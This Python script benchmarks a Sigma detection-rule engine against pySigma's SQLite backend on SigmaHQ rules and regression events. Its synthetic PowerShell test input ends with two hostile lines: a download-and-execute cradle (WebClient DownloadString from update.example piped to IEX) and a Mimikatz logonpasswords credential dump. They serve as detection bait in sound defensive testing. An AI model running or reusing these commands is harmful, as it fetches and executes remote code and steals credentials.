#!/usr/bin/env python
"""Benchmark the sandbox engine over the SigmaHQ corpus (standalone: no Django).

(a) Latency: median of one ~10 KB PowerShell scriptblock against the ps_script rules, and of
    one Sysmon event against all rules (``all_rules=True``), for the matching path
    (``explain=False``), explanations without near misses, and full explanations.
(b) Throughput: the regression events repeated to --events events, all rules, versus
    pySigma's SQLite backend (one query per rule over an in-memory table) measured in the same
    run; the baseline runs on --sqlite-events events and its events/s is extrapolated.
(c) Agreement (--all-rules semantics): every (event, rule) match of the engine versus the
    SQLite backend over the regression events, with the disagreements listed.

Usage::

    python bench/bench_sandbox.py [--corpus ../shared/corpus/sigmahq] [--events 20000]
        [--sqlite-events 2000] [--repeat 200] [--skip-sqlite] [--json results.json]

Needs ``pysigma-backend-sqlite`` (2.0.0 works with pySigma 1.5.1) for (b) and (c).
"""

from __future__ import annotations

import argparse
import json
import os
import re
import sqlite3
import statistics
import sys
import time
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from rules.evaluate import Evaluator  # noqa: E402
from rules.events import Event, event_from_mapping, load_events_file, value_text  # noqa: E402
from rules.model import ParsedRule  # noqa: E402
from rules.parse import parse_rule  # noqa: E402

TARGET_SCRIPTBLOCK_MS = 2.0
TARGET_EVENT_MS = 5.0
TARGET_SPEEDUP = 10.0


# --------------------------------------------------------------------------------------------
# Inputs


def load_corpus(corpus: Path) -> list[ParsedRule]:
    rules = []
    for path in sorted(corpus.glob("rules*/**/*.yml")):
        rules.append(parse_rule(path.read_text(encoding="utf-8"), str(path)))
    return rules


def regression_events(corpus: Path) -> list[Event]:
    events: list[Event] = []
    for path in sorted((corpus / "regression_data").rglob("*.json")):
        events.extend(load_events_file(str(path)))
    return events


def scriptblock(size: int = 10_000) -> str:
    """A synthetic, plausible PowerShell script of about ``size`` characters."""
    parts = [
        "# Maintenance script: inventory, cleanup and reporting",
        "Set-StrictMode -Version Latest",
        "$ErrorActionPreference = 'Stop'",
        "$LogPath = Join-Path $env:TEMP 'maintenance.log'",
    ]
    n = 0
    while sum(len(p) + 1 for p in parts) < size - 400:
        n += 1
        parts.append(
            f"""
function Get-Inventory{n} {{
    param([string]$ComputerName = $env:COMPUTERNAME, [int]$Depth = {n % 5 + 1})
    $items = Get-ChildItem -Path "C:\\ProgramData\\Vendor{n}" -Recurse -ErrorAction SilentlyContinue
    foreach ($item in $items) {{
        if ($item.Length -gt {n * 1024}) {{
            Write-Verbose "Large file: $($item.FullName)"
            Add-Content -Path $LogPath -Value "$(Get-Date -Format o) $($item.Name)"
        }}
    }}
    $svc = Get-Service -Name "VendorSvc{n}" -ErrorAction SilentlyContinue
    if ($svc -and $svc.Status -ne 'Running') {{ Start-Service -InputObject $svc }}
    return [pscustomobject]@{{ Computer = $ComputerName; Count = $items.Count }}
}}"""
        )
    parts.append(
        "$wc = New-Object Net.WebClient; $s = $wc.DownloadString('http://update.example/p.ps1')"
    )
    parts.append("IEX $s; Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'")
    return "\n".join(parts)


def median_ms(fn: Callable[[], Any], repeat: int) -> tuple[float, float]:
    """Median wall-clock and median CPU milliseconds of ``fn`` (after one warm-up call)."""
    fn()  # warm caches built on first use (scopes, automata)
    wall, cpu = [], []
    for _ in range(repeat):
        start, start_cpu = time.perf_counter(), time.process_time()
        fn()
        wall.append((time.perf_counter() - start) * 1000)
        cpu.append((time.process_time() - start_cpu) * 1000)
    return statistics.median(wall), statistics.median(cpu)


# --------------------------------------------------------------------------------------------
# SQLite baseline


def _quote(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _regexp(pattern: str, value: Any) -> bool:
    if value is None:
        return False
    try:
        return re.search(pattern, str(value)) is not None
    except re.error:
        return False


class SqliteBaseline:
    """pySigma's SQLite backend: one query per rule over an in-memory table of events."""

    def __init__(self, rules: Iterable[ParsedRule]) -> None:
        from sigma.backends.sqlite import sqliteBackend

        backend = sqliteBackend()
        started = time.perf_counter()
        self.queries: list[tuple[str, str]] = []
        self.fields: set[str] = set()
        self.conversion_errors: dict[str, str] = {}
        for rule in rules:
            if rule.sigma is None or rule.unsupported:
                continue
            try:
                for query in backend.convert_rule(rule.sigma):
                    self.queries.append((rule.id, query.replace("SELECT *", "SELECT rowid", 1)))
                self.fields.update(backend.required_fields(rule.sigma))
            except Exception as exc:  # keywords, unsupported modifiers...
                self.conversion_errors[rule.id] = f"{type(exc).__name__}: {exc}"
        self.convert_s = time.perf_counter() - started
        self.query_errors: dict[str, str] = {}
        self.cpu_s = 0.0

    def _table(
        self, events: list[Event], narrow: bool = False
    ) -> tuple[sqlite3.Connection, list[str]]:
        """A table with a column per event field and (unless ``narrow``) per rule field, so
        that every query runs; ``narrow`` is Zircolite's layout (event fields only: queries on
        other fields fail to prepare and are skipped)."""
        columns: dict[str, str] = {}
        for e in events:
            for k in e.fields:
                columns.setdefault(k.lower(), k)
        if not narrow:
            for f in sorted(self.fields):
                columns.setdefault(f.lower(), f)
        names = [c for c in columns.values() if c.lower() != "rowid"]
        con = sqlite3.connect(":memory:")
        con.create_function("regexp", 2, _regexp, deterministic=True)
        con.execute(
            "CREATE TABLE logs ("
            + ", ".join(f"{_quote(c)} TEXT COLLATE NOCASE" for c in names)
            + ")"
        )
        return con, names

    def run(
        self, events: list[Event], narrow: bool = False
    ) -> tuple[set[tuple[int, str]], float, float]:
        """Matches as (row index, rule id), insert seconds, query seconds (wall clock).

        ``self.cpu_s`` holds the CPU seconds of the last run, ``self.query_errors`` the
        queries that failed."""
        cpu = time.process_time()
        self.query_errors = {}
        con, names = self._table(events, narrow)
        index = {c.lower(): i for i, c in enumerate(names)}
        started = time.perf_counter()
        rows = []
        for e in events:
            row: list[Any] = [None] * len(names)
            for k, v in e.fields.items():
                i = index.get(k.lower())
                if i is None:
                    continue
                row[i] = json.dumps(v) if isinstance(v, dict | list) else value_text(v)
            rows.append(row)
        con.executemany(f"INSERT INTO logs VALUES ({', '.join('?' * len(names))})", rows)
        con.commit()
        inserted = time.perf_counter()
        matches: set[tuple[int, str]] = set()
        for rule_id, query in self.queries:
            try:
                for (rowid,) in con.execute(query):
                    matches.add((rowid - 1, rule_id))
            except sqlite3.Error as exc:
                self.query_errors[rule_id] = str(exc)
        done = time.perf_counter()
        con.close()
        self.cpu_s = time.process_time() - cpu
        return matches, inserted - started, done - inserted


# --------------------------------------------------------------------------------------------
# Main


# Long on purpose: one benchmark run, its phases in the order they print.
def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--corpus", type=Path, default=ROOT.parent / "shared" / "corpus" / "sigmahq"
    )
    parser.add_argument("--events", type=int, default=20_000)
    parser.add_argument("--sqlite-events", type=int, default=2_000)
    parser.add_argument("--repeat", type=int, default=200)
    parser.add_argument("--skip-sqlite", action="store_true")
    parser.add_argument("--json", type=Path, help="also write the results here")
    args = parser.parse_args(argv)
    if not args.corpus.is_dir():
        print(f"corpus not found: {args.corpus}", file=sys.stderr)
        return 2
    results: dict[str, Any] = {}

    started = time.perf_counter()
    rules = load_corpus(args.corpus)
    parsed_s = time.perf_counter() - started
    started = time.perf_counter()
    evaluator = Evaluator(rules)
    compiled_s = time.perf_counter() - started
    events = regression_events(args.corpus)
    evaluable = sum(1 for r in evaluator.rules if r.evaluable)
    print(
        f"corpus: {len(rules)} rules ({evaluable} evaluable, "
        f"{len(rules) - evaluable} unsupported: |expand), parsed in {parsed_s:.1f} s, "
        f"compiled in {compiled_s:.1f} s; {len(events)} regression events"
    )
    results.update(rules=len(rules), evaluable=evaluable, regression_events=len(events))

    # (a) latency -----------------------------------------------------------------------------
    text = scriptblock()
    ps_scope = evaluator.evaluate(text, explain=False)
    # The largest Sysmon process-creation event: the commonest kind, with the most rules.
    proc = [e.fields for e in events if e.fields.get("EventID") == 1] or [e.fields for e in events]
    event_fields = max(proc, key=lambda f: len(json.dumps(f)))
    print(f"\n(a) latency, median of {args.repeat} runs: wall clock (CPU time)")
    print(
        f"    scriptblock: {len(text):,} chars, {ps_scope.rules_in_scope} ps_script rules in "
        f"scope, {ps_scope.rules_evaluated} evaluated after the prefilter, "
        f"{len(ps_scope.matches)} match"
    )
    print(
        f"    event: Sysmon EventID {event_fields.get('EventID')}, "
        f"{len(json.dumps(event_fields)):,} bytes of JSON, all {evaluable} rules"
    )
    modes: list[tuple[str, dict[str, Any]]] = [
        ("match only (explain=False)", {"explain": False}),
        ("explain, no near misses", {"explain": True, "near_misses": False}),
        ("explain + near misses", {"explain": True}),
    ]
    latency: dict[str, dict[str, float]] = {}
    for label, opts in modes:
        sb, sb_cpu = median_ms(lambda o=opts: evaluator.evaluate(text, **o), args.repeat)
        ev, ev_cpu = median_ms(
            lambda o=opts: evaluator.evaluate(event_fields, all_rules=True, **o), args.repeat
        )
        latency[label] = {
            "scriptblock_ms": sb,
            "scriptblock_cpu_ms": sb_cpu,
            "event_ms": ev,
            "event_cpu_ms": ev_cpu,
        }
        print(
            f"    {label:26s} scriptblock {sb:6.3f} ms ({sb_cpu:6.3f}) = "
            f"{sb / TARGET_SCRIPTBLOCK_MS:4.2f} x the {TARGET_SCRIPTBLOCK_MS:g} ms target;"
            f"  event {ev:6.3f} ms ({ev_cpu:6.3f}) = {ev / TARGET_EVENT_MS:4.2f} x the "
            f"{TARGET_EVENT_MS:g} ms target"
        )
    results["latency"] = latency

    # (b) throughput --------------------------------------------------------------------------
    n = args.events
    stream = [events[i % len(events)].fields for i in range(n)]
    print(
        f"\n(b) throughput: {n:,} events (the {len(events)} regression events repeated), all rules"
    )
    started = time.perf_counter()
    cpu = time.process_time()
    engine_matches = 0
    for fields in stream:
        engine_matches += len(evaluator.match_ids(event_from_mapping(fields), all_rules=True))
    wall = time.perf_counter() - started
    cpu = time.process_time() - cpu
    engine_eps = n / wall
    print(
        f"    engine: {wall:.2f} s wall ({cpu:.2f} s CPU), {engine_eps:,.0f} events/s, "
        f"{engine_matches:,} matches"
    )
    workers = os.cpu_count() or 1
    started_par = time.perf_counter()
    par_ids = evaluator.match_stream(
        [event_from_mapping(f) for f in stream], all_rules=True, workers=workers
    )
    par_eps = n / (time.perf_counter() - started_par)
    par_matches = sum(len(ids) for ids in par_ids)
    assert par_matches == engine_matches, (par_matches, engine_matches)
    print(
        f"    engine, {workers} worker processes (match_stream, as `manage.py evaluate`): "
        f"{par_eps:,.0f} events/s, {par_matches:,} matches"
    )
    started_scoped = time.perf_counter()
    scoped_matches = 0
    for fields in stream:
        scoped_matches += len(evaluator.match_ids(event_from_mapping(fields)))
    scoped_eps = n / (time.perf_counter() - started_scoped)
    print(
        f"    engine, logsource-scoped (the sandbox default): {scoped_eps:,.0f} events/s, "
        f"{scoped_matches:,} matches"
    )
    results["engine"] = {
        "events": n,
        "seconds": wall,
        "cpu_seconds": cpu,
        "events_per_s": engine_eps,
        "matches": engine_matches,
        "scoped_events_per_s": scoped_eps,
        "parallel_events_per_s": par_eps,
        "workers": workers,
    }

    if args.skip_sqlite:
        print("\n(SQLite baseline skipped)")
    else:
        try:
            baseline = SqliteBaseline(rules)
        except ImportError:
            print("\npysigma-backend-sqlite is not installed: baseline skipped", file=sys.stderr)
            baseline = None
        if baseline is not None:
            m = min(args.sqlite_events, n)
            subset = [event_from_mapping(f) for f in stream[:m]]
            print(
                f"    sqlite: {len(baseline.queries)} queries ({len(baseline.conversion_errors)}"
                f" rules not convertible), converted in {baseline.convert_s:.1f} s"
            )
            _, insert_s, query_s = baseline.run(subset)
            sqlite_eps = m / (insert_s + query_s)
            sqlite_cpu_eps = m / baseline.cpu_s
            extrapolated = " (measured on a subset, events/s extrapolated)" if m < n else ""
            print(
                f"    sqlite: {m:,} events in {insert_s + query_s:.2f} s wall "
                f"({baseline.cpu_s:.2f} s CPU; insert {insert_s:.2f} s, queries "
                f"{query_s:.2f} s), {sqlite_eps:,.0f} events/s{extrapolated}"
            )
            _, narrow_insert, narrow_query = baseline.run(subset, narrow=True)
            narrow_eps = m / (narrow_insert + narrow_query)
            skipped = len(baseline.query_errors)
            print(
                f"    sqlite, Zircolite layout (event fields only; {skipped} queries on absent "
                f"fields fail and are skipped): {narrow_eps:,.0f} events/s"
            )
            speedup = engine_eps / sqlite_eps
            cpu_speedup = (n / cpu) / sqlite_cpu_eps
            print(
                f"    engine / sqlite = {speedup:,.1f}x wall clock, {cpu_speedup:,.1f}x CPU time "
                f"(target >= {TARGET_SPEEDUP:g}x: {speedup / TARGET_SPEEDUP:.2f} x the target); "
                f"vs the Zircolite layout {engine_eps / narrow_eps:,.1f}x"
            )
            par_speedup = par_eps / sqlite_eps
            print(
                f"    engine with {workers} worker processes / sqlite (single process) = "
                f"{par_speedup:,.1f}x wall clock (target >= {TARGET_SPEEDUP:g}x: "
                f"{'OK' if par_speedup >= TARGET_SPEEDUP else 'MISSED'})"
            )
            results["parallel_speedup"] = par_speedup
            results["sqlite"] = {
                "events": m,
                "insert_s": insert_s,
                "query_s": query_s,
                "events_per_s": sqlite_eps,
                "cpu_seconds": baseline.cpu_s,
                "cpu_events_per_s": sqlite_cpu_eps,
                "extrapolated": m < n,
                "queries": len(baseline.queries),
                "conversion_errors": len(baseline.conversion_errors),
            }
            results["sqlite"]["narrow_events_per_s"] = narrow_eps
            results["sqlite"]["narrow_skipped_queries"] = skipped
            results["speedup"] = speedup
            results["speedup_vs_narrow"] = engine_eps / narrow_eps
            results["cpu_speedup"] = cpu_speedup

            # (c) agreement ---------------------------------------------------------------------
            results["agreement"] = agreement(evaluator, baseline, events)

    if args.json:
        args.json.write_text(json.dumps(results, indent=2, default=str))
    return 0


def _non_ascii(values: Iterable[Any]) -> bool:
    return any(isinstance(v, str) and not v.isascii() for v in values)


def agreement(
    evaluator: Evaluator, baseline: SqliteBaseline, events: list[Event]
) -> dict[str, Any]:
    print(f"\n(c) agreement with the SQLite backend, all rules, {len(events)} regression events")
    sql, _, _ = baseline.run(events)
    comparable = {rid for rid, _ in baseline.queries} - set(baseline.query_errors)
    ours: set[tuple[int, str]] = set()
    for i, e in enumerate(events):
        for rid in evaluator.match_ids(event_from_mapping(e.fields), all_rules=True):
            ours.add((i, rid))
    ours_cmp = {p for p in ours if p[1] in comparable}
    sql_cmp = {p for p in sql if p[1] in comparable}
    only_engine = sorted(ours_cmp - sql_cmp)
    only_sqlite = sorted(sql_cmp - ours_cmp)
    print(
        f"    comparable rules: {len(comparable)} (not comparable: "
        f"{len(baseline.conversion_errors)} not convertible, "
        f"{len(baseline.query_errors)} query errors)"
    )
    print(
        f"    matches: engine {len(ours_cmp)}, sqlite {len(sql_cmp)}, "
        f"both {len(ours_cmp & sql_cmp)}"
    )
    print(f"    disagreements: {len(only_engine)} engine-only, {len(only_sqlite)} sqlite-only")
    rows = []
    for side, pairs in (("engine only", only_engine), ("sqlite only", only_sqlite)):
        for i, rid in pairs:
            rule = evaluator.rule(rid)
            fields = events[i].fields
            hint = (
                "non-ASCII text in event (SQLite NOCASE/LIKE fold ASCII only)"
                if _non_ascii(fields.values())
                else ""
            )
            title = rule.title if rule else rid
            print(f"      {side}: event {i} ({fields.get('EventID')}) rule {rid} {title!r} {hint}")
            rows.append({"side": side, "event": i, "rule_id": rid, "hint": hint})
    for rid, err in sorted(baseline.query_errors.items())[:10]:
        print(f"      sqlite query error: {rid}: {err}")
    return {
        "engine_only": len(only_engine),
        "sqlite_only": len(only_sqlite),
        "disagreements": rows,
        "query_errors": len(baseline.query_errors),
        "conversion_errors": len(baseline.conversion_errors),
    }


if __name__ == "__main__":
    raise SystemExit(main())
